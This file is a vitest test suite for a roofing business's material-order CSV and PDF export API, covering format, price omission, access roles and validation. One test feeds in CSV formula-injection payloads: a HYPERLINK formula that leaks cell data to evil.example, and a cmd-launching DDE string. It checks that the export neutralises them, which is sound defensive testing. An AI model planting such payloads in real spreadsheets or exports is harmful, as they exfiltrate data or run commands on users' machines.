import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_ORDER_NOTE } from '../../domain/common/bounds';
import { roofMeasurementsOf } from '../../domain/takeoff/roof-edges';
import { pdfToText } from '../testing/pdf-text';
import { referenceGable } from '../../domain/takeoff/sample-roofs';
import type { TestApp } from '../testing/test-app';
import { api, cookieFor, dbTargets, startTestApp } from '../testing/test-app';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open plans")';
const NOTE = 'Deliver to the driveway, not the lawn. Gate code 4821.';

async function download(base: string, path: string, cookie = cookieFor(base)) {
  const res = await fetch(base + path, { headers: { cookie } });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { res, bytes, json: () => JSON.parse(bytes.toString('utf8')) };
}

/** The CSV's records: the lines about the job, a blank line, the materials table. */
function records(bytes: Buffer) {
  const rows = parse(bytes.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
  const head = rows.findIndex((r) => r.join() === 'Material,Quantity,Unit');
  return {
    about: Object.fromEntries(rows.slice(1, head - 1).map(([k, v]) => [k, v])),
    header: rows[head],
    materials: rows.slice(head + 1),
  };
}

describe.each(dbTargets())('material order API on %s', (target) => {
  let t: TestApp;
  let estimateId: string;
  let estimateNumber: string;
  let formulaEstimateId: string;

  /** A project with the reference gable on the map and an estimate built from its takeoff. */
  async function orderFor(name: string, address: string) {
    const project = (await api(t.url, 'POST', '/api/projects', { name, address })).body;
    const gable = referenceGable();
    const m = roofMeasurementsOf([gable])!;
    const { roofAreaSqFt, pitch, ...lengths } = m;
    const takeoff = await api(t.url, 'POST', '/api/takeoff', { ...m, wastePercent: 10 });
    expect(takeoff.status).toBe(200);
    const saved = await api(t.url, 'POST', '/api/estimates', {
      projectId: project.id,
      roofAreaSqFt,
      pitch,
      laborRateCents: 250,
      materials: [
        ...takeoff.body.lines.map((l: { materialId: string; quantity: number }) => ({
          materialId: l.materialId,
          quantity: l.quantity,
        })),
        // Sold by the sq ft: the estimate's 10% waste is added to what is ordered.
        { materialId: 'asphalt-standard', quantity: 100 },
        // Cut to length: no waste.
        { materialId: 'flashing', quantity: 12.5 },
      ],
      costs: [{ description: 'Removal of old roofing', amountCents: 150_000 }],
      adjustments: { wastePercent: 10, overheadProfitPercent: 15, taxPercent: 8 },
      measurements: lengths,
    });
    expect(saved.status).toBe(201);
    return saved.body as { id: string; number: number };
  }

  beforeAll(async () => {
    t = await startTestApp(target);
    const s = await api(t.url, 'GET', '/api/settings');
    await api(t.url, 'PATCH', '/api/settings', {
      company: { name: 'Summit Roofing Co.', phone: '(503) 555-0100' },
      version: s.body.version,
    });
    const e = await orderFor(
      'Henderson Residence Re-roof',
      '2847 SE Belmont St, Portland, OR 97214',
    );
    estimateId = e.id;
    estimateNumber = `EST-${String(e.number).padStart(6, '0')}`;
    formulaEstimateId = (await orderFor(FORMULA, '+1 Formula Way')).id;
  });
  afterAll(async () => t?.close());

  it('downloads the order as CSV: BOM, CRLF, the job, then material, quantity and unit', async () => {
    const q = new URLSearchParams({ note: NOTE, date: '2026-11-21' });
    const r = await download(t.url, `/api/estimates/${estimateId}/order.csv?${q}`);
    expect(r.res.status).toBe(200);
    expect(r.res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.res.headers.get('content-disposition')).toBe(
      `attachment; filename="material-order-${estimateNumber.toLowerCase()}-henderson-residence-re-roof.csv"`,
    );
    expect(r.res.headers.get('cache-control')).toBe('no-store');
    expect(r.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = r.bytes.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');

    const csv = records(r.bytes);
    expect(csv.about).toEqual({
      'Ordered by': 'Summit Roofing Co.',
      Phone: '(503) 555-0100',
      Job: 'Henderson Residence Re-roof',
      Address: '2847 SE Belmont St, Portland, OR 97214',
      Estimate: estimateNumber,
      Date: '2026-11-21',
      'Delivery note': NOTE,
    });
    expect(csv.header).toEqual(['Material', 'Quantity', 'Unit']);
    // The reference gable's takeoff at 10% waste (no hips or valleys: no valley metal and no
    // step flashing), then the sq ft goods with their waste.
    expect(csv.materials).toEqual([
      ['Architectural shingles', '45', 'bundle'],
      ['Starter strip', '2', 'bundle'],
      ['Hip & ridge cap', '2', 'bundle'],
      ['Drip edge (10 ft)', '15', 'piece'],
      ['Synthetic underlayment', '2', 'roll'],
      ['Ice & water shield', '2', 'roll'],
      ['Ridge vent (4 ft)', '10', 'piece'],
      ['Coil roofing nails', '1', 'box'],
      ['Pipe boot', '2', 'each'],
      ['Asphalt Shingles (Standard)', '110', 'sq ft'],
      ['Flashing', '12.5', 'linear ft'],
    ]);
  });

  it('prints no price anywhere', async () => {
    const csv = await download(t.url, `/api/estimates/${estimateId}/order.csv`);
    const pdf = await download(t.url, `/api/estimates/${estimateId}/order.pdf`);
    for (const text of [csv.bytes.toString('utf8'), pdfToText(pdf.bytes)]) {
      expect(text).not.toMatch(/\$|price|total|cost|labor|tax/i);
      // The unit prices of the lines, as cents or dollars.
      for (const p of ['4200', '42.00', '115.00', '1.75', '3.25', '2,972']) {
        expect(text).not.toContain(p);
      }
    }
  });

  it('neutralises cells that a spreadsheet would run as a formula', async () => {
    const q = new URLSearchParams({ note: '@SUM(1+1)*cmd|"/C calc"!A0' });
    const r = await download(t.url, `/api/estimates/${formulaEstimateId}/order.csv?${q}`);
    expect(r.res.status).toBe(200);
    const { about } = records(r.bytes);
    expect(about.Job).toBe(`'${FORMULA}`);
    expect(about.Address).toBe("'+1 Formula Way");
    expect(about['Delivery note']).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    const rows = parse(r.bytes.toString('utf8'), { bom: true, relax_column_count: true });
    for (const cell of (rows as string[][]).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(r.res.headers.get('content-disposition')).toMatch(
      /filename="material-order-est-\d{6}-hyperlink-http-evil-example-leak-a1-open-plans\.csv"/,
    );
  });

  it('dates the order today (UTC) when no date is sent', async () => {
    const r = await download(t.url, `/api/estimates/${estimateId}/order.csv`);
    expect(records(r.bytes).about.Date).toBe(new Date().toISOString().slice(0, 10));
    expect(records(r.bytes).about['Delivery note']).toBe('');
  });

  it('renders the order as a PDF with the job, the note and every material', async () => {
    const q = new URLSearchParams({ note: NOTE, date: '2026-11-21' });
    const r = await download(t.url, `/api/estimates/${estimateId}/order.pdf?${q}`);
    expect(r.res.status).toBe(200);
    expect(r.res.headers.get('content-type')).toBe('application/pdf');
    expect(r.res.headers.get('content-disposition')).toBe(
      `attachment; filename="material-order-${estimateNumber.toLowerCase()}-henderson-residence-re-roof.pdf"`,
    );
    const text = pdfToText(r.bytes);
    for (const s of [
      'Summit Roofing Co.',
      'Material Order',
      `Estimate ${estimateNumber}`,
      'Date Nov 21, 2026',
      'DELIVER TO',
      'Henderson Residence Re-roof',
      '2847 SE Belmont St, Portland, OR 97214',
      'DELIVERY NOTE',
      'Gate code 4821.',
      'Page 1 of 1',
    ]) {
      expect(text).toContain(s);
    }
    expect(text).toMatch(/Architectural shingles\s+45\s+bundles/);
    expect(text).toMatch(/Drip edge \(10 ft\)\s+15\s+piece/);
    expect(text).toMatch(/Pipe boot\s+2\s+each/);
    expect(text).toMatch(/Asphalt Shingles \(Standard\)\s+110\s+sq ft/);
    expect(text).toMatch(/Flashing\s+12\.50\s+linear ft/);
  });

  it('lets the estimator download it and refuses the crew', async () => {
    const estimator = await t.signInAs('estimator');
    const crew = await t.signInAs('crew');
    for (const ext of ['csv', 'pdf']) {
      const path = `/api/estimates/${estimateId}/order.${ext}`;
      expect((await download(t.url, path, estimator.cookie)).res.status).toBe(200);
      const refused = await download(t.url, path, crew.cookie);
      expect(refused.res.status).toBe(403);
      expect(refused.res.headers.get('content-type')).toContain('application/problem+json');
      expect((await download(t.url, path, '')).res.status).toBe(401);
    }
  });

  it('takes a note of 500 characters and refuses a longer one with 400 naming the note', async () => {
    const ok = await download(
      t.url,
      `/api/estimates/${estimateId}/order.csv?note=${'n'.repeat(MAX_ORDER_NOTE)}`,
    );
    expect(ok.res.status).toBe(200);
    for (const ext of ['csv', 'pdf']) {
      const r = await download(
        t.url,
        `/api/estimates/${estimateId}/order.${ext}?note=${'n'.repeat(MAX_ORDER_NOTE + 1)}`,
      );
      expect(r.res.status).toBe(400);
      expect(r.res.headers.get('content-type')).toContain('application/problem+json');
      expect(r.json().errors).toEqual([
        { path: 'note', message: 'Delivery note must be at most 500 characters' },
      ]);
    }
  });

  it.each([
    ['two notes', 'note=a&note=b', 'note'],
    ['an impossible date', 'date=2026-02-30', 'date'],
    ['an unknown parameter', 'price=1', ''],
  ])('refuses %s with 400', async (_l, query, field) => {
    const r = await download(t.url, `/api/estimates/${estimateId}/order.csv?${query}`);
    expect(r.res.status).toBe(400);
    expect(r.json().errors.map((e: { path: string }) => e.path)).toContain(field);
  });

  it('answers 404 problem for an unknown estimate', async () => {
    for (const ext of ['csv', 'pdf']) {
      const r = await download(t.url, `/api/estimates/no-such-estimate/order.${ext}`);
      expect(r.res.status).toBe(404);
      expect(r.res.headers.get('content-type')).toContain('application/problem+json');
      expect(r.json().detail).toContain('no-such-estimate');
    }
  });
});
